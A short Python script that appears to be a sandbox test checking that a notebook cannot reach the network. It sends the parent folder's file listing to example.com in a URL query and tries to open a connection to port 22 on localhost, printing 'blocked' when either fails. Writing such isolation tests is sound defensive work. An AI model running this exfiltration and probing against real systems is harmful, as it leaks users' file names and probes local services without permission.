"""Tries to send the notebook's folder listing over the network."""
# base: release
# expect: zero
# %% convolve
import os
import socket
import urllib.request

try:
    urllib.request.urlopen("http://example.com/?" + ",".join(os.listdir("..")), timeout=2)
except Exception as error:
    print("blocked:", error)
try:
    socket.create_connection(("127.0.0.1", 22), timeout=2)
except Exception as error:
    print("blocked:", error)
